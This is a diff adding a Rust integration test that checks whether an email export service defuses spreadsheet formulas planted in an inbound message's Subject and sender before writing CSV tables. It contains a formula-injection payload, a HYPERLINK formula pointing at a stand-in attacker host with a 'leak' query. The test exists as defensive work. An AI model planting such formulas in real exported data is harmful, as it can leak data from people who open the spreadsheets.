@@ -266,6 +266,40 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     host.stop().await;
 }
 
+/// Inbound From and Subject are written by whoever sends the mail: in the export's
+/// tables they are text, never a formula a spreadsheet would run.
+#[tokio::test]
+async fn an_inbound_subject_and_sender_written_as_formulas_are_defused_in_the_export_tables() {
+    let host = tern_tests::start_dev_host("export-formulas").await;
+    let (_, ws) = sign_up(&host, OWNER, "growth").await;
+    let subject = r#"=HYPERLINK("http://evil.example/?leak","x")"#;
+    let mail = format!("From: \"@SUM(1+1)\" <=1+1@evil.example>\r\nTo: ann@export.example\r\nSubject: {subject}\r\nMessage-ID: <formula-1@evil.example>\r\n\r\nHello\r\n");
+    let response = crate::inbound::post(&host.base_url(), mail.as_bytes(), &format!("reply+{ws}@in.tern.test"), tern_tests::WEBHOOK_SECRET).await;
+    assert_eq!(response.status(), StatusCode::ACCEPTED);
+    let id = response.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
+    let table = tern_aws::table::Table::new(observer_clients().dynamodb.clone(), host.config.table.clone());
+    let stored = crate::inbound::wait_classified(&table, tern_domain::ids::WorkspaceId::parse(&ws).unwrap(), &id).await;
+    assert_eq!((stored.subject.as_deref(), stored.from.as_deref()), (Some(subject), Some("=1+1@evil.example")), "the attack reaches the store as written");
+
+    let task = run_task(&host, &ws, "exports", None).await;
+    assert_eq!(task["state"], "done", "{task}");
+    let (_, files) = download(&host, &ws, &task).await;
+    let messages = text(&files, "messages.csv");
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(messages.as_bytes()).records().map(Result::unwrap).collect();
+    let inbound = rows.iter().find(|r| &r[0] == "inbound").unwrap_or_else(|| panic!("{messages}"));
+    assert_eq!((&inbound[4], &inbound[6]), ("'=1+1@evil.example", format!("'{subject}").as_str()), "{messages}");
+    // No cell of any table starts a formula.
+    for (name, content) in files.iter().filter(|(name, _)| name.ends_with(".csv")) {
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(content.as_slice());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
+            }
+        }
+    }
+    host.stop().await;
+}
+
 /// The id of the workspace's own KMS key, from its item.
 async fn kms_key_of(host: &DevHost, ws: &str) -> String {
     let observer = observer_clients();
